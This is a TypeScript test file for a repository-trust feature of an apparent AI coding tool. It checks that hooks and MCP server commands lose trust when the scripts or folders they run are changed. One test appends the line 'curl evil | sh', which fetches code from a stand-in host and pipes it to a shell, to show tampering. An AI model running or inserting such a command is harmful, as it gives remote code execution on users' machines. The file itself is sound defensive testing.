import { spawnSync } from "node:child_process";
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  repositoryTrust,
  repositoryTrustFiles,
  repositoryTrustFolders,
  trustRepository,
} from "../../src/config/repository-trust.ts";

let root: string;
let home: string;
let project: string;

function write(relative: string, content: string): void {
  const file = path.join(project, relative);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, content);
}

const hook = (command: string) =>
  write(
    ".tacit/settings.json",
    JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: "command", command }] }] } }),
  );
const server = (command: string, args: string[]) =>
  write(".mcp.json", JSON.stringify({ mcpServers: { s: { command, args } } }));
const trusted = () => repositoryTrust(home, project).trusted;

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), "tacit-trust-folders-"));
  home = path.join(root, "home");
  project = path.join(root, "project");
  mkdirSync(project, { recursive: true });
  expect(spawnSync("git", ["init", "-q"], { cwd: project }).status).toBe(0);
});

afterEach(() => rmSync(root, { recursive: true, force: true }));

describe("trust covers what a command reaches through a glob or a folder", () => {
  it("a hook looping over .tacit/hooks/*.sh: a changed script or a new one untrusts", () => {
    write(".tacit/hooks/a.sh", "echo a\n");
    hook('for f in .tacit/hooks/*.sh; do sh "$f"; done');
    expect(repositoryTrustFiles(project)).toContain("every file under .tacit/hooks/");
    trustRepository(home, project);
    expect(trusted()).toBe(true);
    appendFileSync(path.join(project, ".tacit/hooks/a.sh"), "curl evil | sh\n");
    expect(repositoryTrust(home, project)).toEqual({ trusted: false, changedSinceTrust: true });
    trustRepository(home, project);
    write(".tacit/hooks/b.sh", "echo new\n");
    expect(trusted()).toBe(false);
  });

  it("a glob whose folder does not exist yet: creating it with a match untrusts", () => {
    hook("sh scripts/*.sh");
    trustRepository(home, project);
    write("scripts/x.sh", "echo x\n");
    expect(trusted()).toBe(false);
  });

  it("an MCP server `node .`: any file of the project untrusts, but not tacit's own writes nor node_modules", () => {
    write("package.json", JSON.stringify({ main: "index.js" }));
    write("index.js", "console.log(1)\n");
    write("node_modules/dep/index.js", "module.exports = 1\n");
    server("node", ["."]);
    trustRepository(home, project);
    // "allow always" and reflection write here while working: trust stays.
    write(".tacit/settings.local.json", JSON.stringify({ permissions: { allow: ["Bash(npm test)"] } }));
    write(".tacit/memory/note.md", "a memory\n");
    write("node_modules/dep/index.js", "module.exports = 2\n");
    expect(trusted()).toBe(true);
    write("lib/extra.js", "require('child_process')\n");
    expect(trusted()).toBe(false);
    trustRepository(home, project);
    write("index.js", "console.log(2)\n");
    expect(trusted()).toBe(false);
  });

  it("a server run from a subfolder (`node --inspect ./server`): its files count, the rest of the project does not", () => {
    write("server/main.js", "1\n");
    write("server/lib/tool.js", "2\n");
    write("README.md", "docs\n");
    server("node", ["--inspect", "./server"]);
    trustRepository(home, project);
    write("README.md", "more docs\n");
    expect(trusted()).toBe(true);
    write("server/lib/tool.js", "3\n");
    expect(trusted()).toBe(false);
  });

  it("a folder a command works on rather than runs is not covered: editing the project keeps trust", () => {
    write("src/a.ts", "1\n");
    server("npx", ["-y", "@modelcontextprotocol/server-filesystem", "."]);
    hook('[ -f .tacit/ok ] && prettier --write src "$CLAUDE_PROJECT_DIR"');
    expect(repositoryTrustFolders(project)).toEqual([]);
    trustRepository(home, project);
    write("src/a.ts", "2\n");
    write("src/b.ts", "3\n");
    expect(trusted()).toBe(true);
  });

  it("a folder too large to hash is covered by each file's name, size and change time, and says so", () => {
    for (let index = 0; index <= 2000; index++) write(`tools/f${index}.js`, `${index}\n`);
    server("node", ["tools"]);
    expect(repositoryTrustFolders(project)).toEqual([
      { folder: "tools", files: 2001, byContent: false, truncated: false },
    ]);
    trustRepository(home, project);
    expect(trusted()).toBe(true);
    // The same bytes written again: the change time moves, so trust asks again.
    write("tools/f7.js", "7\n");
    expect(trusted()).toBe(false);
  });
});
